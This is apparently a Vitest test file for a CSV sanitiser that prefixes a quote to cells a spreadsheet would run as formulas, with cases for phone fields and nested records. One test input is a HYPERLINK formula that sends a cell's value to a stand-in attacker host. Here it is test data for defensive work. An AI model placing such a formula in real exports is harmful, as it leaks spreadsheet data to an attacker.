import { describe, expect, it } from 'vitest';
import { neutraliseCell, neutraliseRecords } from './csv-formulas';

describe('CSV cells a spreadsheet would run', () => {
  it('start with a quote when they begin with = + - @, a tab or a carriage return', () => {
    expect(neutraliseCell('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe(
      `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
    );
    expect(neutraliseCell('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(neutraliseCell('+1-1')).toBe("'+1-1");
    expect(neutraliseCell('-2+3')).toBe("'-2+3");
    expect(neutraliseCell('\t=1')).toBe("'\t=1");
    expect(neutraliseCell('\r=1')).toBe("'\r=1");
  });

  it('leave every other text as it is', () => {
    for (const text of ['Ada', 'Lovelace & Co', 'a=b', 'x+1', '', ' =1']) expect(neutraliseCell(text)).toBe(text);
  });

  it('leave phone numbers as typed, but not a formula in the phone field', () => {
    expect(neutraliseCell('+1 503 555 0148', 'phone')).toBe('+1 503 555 0148');
    expect(neutraliseCell('+44 (20) 7946-0000', 'phone')).toBe('+44 (20) 7946-0000');
    expect(neutraliseCell('+1 503 555 0148', 'title')).toBe("'+1 503 555 0148");
    expect(neutraliseCell('+HYPERLINK("x")', 'phone')).toBe(`'+HYPERLINK("x")`);
  });

  it('are found in nested records and lists, other values untouched', () => {
    const records = [{ last_name: '=1+1', age: 3, tags: ['@x', 'y'], assignee: { email: '-a@b.c' }, when: null }];
    expect(neutraliseRecords(records)).toEqual([
      { last_name: "'=1+1", age: 3, tags: ["'@x", 'y'], assignee: { email: "'-a@b.c" }, when: null },
    ]);
    expect(records[0]!.last_name).toBe('=1+1');
  });
});
